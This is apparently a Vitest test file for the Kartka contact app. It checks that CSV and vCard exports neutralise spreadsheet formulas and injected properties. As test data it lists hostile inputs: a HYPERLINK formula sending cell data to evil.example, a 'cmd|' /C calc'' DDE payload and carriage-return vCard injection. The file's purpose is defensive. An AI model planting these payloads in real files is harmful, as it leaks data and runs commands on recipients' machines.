// Files that leave Kartka carry no formulas and no extra properties, whatever the clients' fields hold.
import { describe, expect, it } from 'vitest';
import { peopleToCsv, peopleToVCards } from '../../../core/export';
import { companyId, personId } from '../../../core/ids';
import type { Person } from '../../../core/model';
import { parseCsv, spreadsheetSafe, toCsv } from '../../../core/parse/csv.ts';
import { parseVCards } from '../../../core/parse/vcard.ts';
import { cleanStrings, cleanText } from '../../../core/text';
import { freshDb, NOW } from '../storage/helpers';

const FORMULAS = [
  '-1+HYPERLINK("https://evil.example/?"&B2,"Open")',
  "+1+cmd|' /C calc'!A0",
  '+(1+1)',
  '-(1+1)',
  '=1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  '＋1+cmd',
  '－(1+1)',
  '＠SUM(1)',
];

describe('spreadsheetSafe', () => {
  it.each(FORMULAS)('neutralises %j', (cell) => {
    expect(spreadsheetSafe(cell)).toBe(`'${cell}`);
  });

  it.each([
    '+380671234567',
    '+380 67 123 45 67',
    '+1 (555) 010-0199',
    '-12',
    '3.5',
    '-1 000,25',
    'Олена',
    '1+1',
    '',
  ])('leaves %j alone', (cell) => {
    expect(spreadsheetSafe(cell)).toBe(cell);
  });

  it('is applied by toCsv, the one writer of every CSV Kartka produces (the export and the import report)', () => {
    const text = toCsv([
      ['File', 'Row', 'Reason'],
      ['a.csv', '4', '=HYPERLINK("https://evil.example")'],
    ]);
    expect(parseCsv(text).rows[0]?.cells[2]).toBe('\'=HYPERLINK("https://evil.example")');
  });

  it('checks a long hostile cell in linear time (no backtracking)', () => {
    const cell = `+${'1 '.repeat(200_000)}x`;
    const started = performance.now();
    expect(spreadsheetSafe(cell)).toBe(`'${cell}`);
    expect(performance.now() - started).toBeLessThan(1000);
  });
});

const person = (patch: Partial<Person>): Person => ({
  id: personId('p1'),
  displayName: 'Олена Коваль',
  emails: ['olena@zoria.ua'],
  phones: ['+380671234567'],
  tags: [],
  companies: [],
  custom: {},
  createdAt: NOW,
  updatedAt: NOW,
  ...patch,
});

describe('the people export', () => {
  it('defuses formulas in the name, company and position columns', () => {
    const c = companyId('c1');
    const people = FORMULAS.slice(0, 4).map((f, i) =>
      person({
        id: personId(`p${i}`),
        displayName: f,
        position: f,
        companies: [{ companyId: c, decisionMaker: false, archived: false }],
      }),
    );
    const csv = peopleToCsv(
      people,
      ['name', 'company', 'position', 'phones'],
      {
        companyNames: new Map([[c, '+(1+1)']]),
        pipeline: [],
      },
      { delimiter: ',', bom: false },
    );
    const rows = parseCsv(csv).rows;
    expect(rows).toHaveLength(4);
    for (const row of rows) {
      expect(row.cells.slice(0, 3).every((v) => v.startsWith("'"))).toBe(true);
      expect(row.cells[3]).toBe('+380671234567');
    }
  });

  it('writes a tag holding a lone CR as one value: the vCard gains no property', () => {
    const vcf = peopleToVCards(
      [
        person({
          tags: ['vip\rEMAIL:tag-injected@evil.example', 'a\r\nTEL:1', 'b\u2028NOTE:x'],
          notes: 'x\ry',
        }),
      ],
      { companyNames: new Map() },
    );
    const { cards } = parseVCards(vcf);
    expect(cards).toHaveLength(1);
    expect(cards[0]?.emails.map((e) => e.value)).toEqual(['olena@zoria.ua']);
    expect(cards[0]?.phones.map((p) => p.value)).toEqual(['+380671234567']);
    expect(cards[0]?.note).toBe('x\ny');
    expect(
      vcf
        .split('\r\n')
        .filter((l) => /^[A-Z]+[:;]/u.test(l))
        .map((l) => l.split(/[:;]/u)[0]),
    ).toEqual(['BEGIN', 'VERSION', 'FN', 'EMAIL', 'TEL', 'NOTE', 'CATEGORIES', 'END']);
  });
});

describe('text entering the base', () => {
  it.each([
    ['vip\rEMAIL:x', 'vip\nEMAIL:x'],
    ['a\r\nb', 'a\nb'],
    ['a\u0000b\u0007c\u001bd\u007fe\u0085f\u009bg', 'abcde\nfg'],
    ['tab\tand\nline', 'tab\tand\nline'],
    ['Олена Коваль', 'Олена Коваль'],
  ])('cleanText(%j) = %j', (raw, clean) => {
    expect(cleanText(raw)).toBe(clean);
  });

  it('cleans at any depth and copies nothing when there is nothing to clean', () => {
    const tidy = { a: ['x', { b: 'y' }], n: 1 };
    expect(cleanStrings(tidy)).toBe(tidy);
    expect(cleanStrings({ a: ['x', { b: 'y\u0000' }], n: 1 })).toEqual({ a: ['x', { b: 'y' }], n: 1 });
  });

  it('is done on every write to a client table, whatever the path', async () => {
    const db = freshDb();
    await db.people.add({
      ...person({ tags: ['vip\rEMAIL:tag-injected@evil.example'], displayName: 'Eve\u0000\u202e' }),
      searchTokens: [],
      gmailKeys: [],
      companyIds: [],
    });
    const stored = await db.people.get(personId('p1'));
    expect(stored?.tags).toEqual(['vip\nEMAIL:tag-injected@evil.example']);
    expect(stored?.displayName).toBe('Eve\u202e');
  });
});
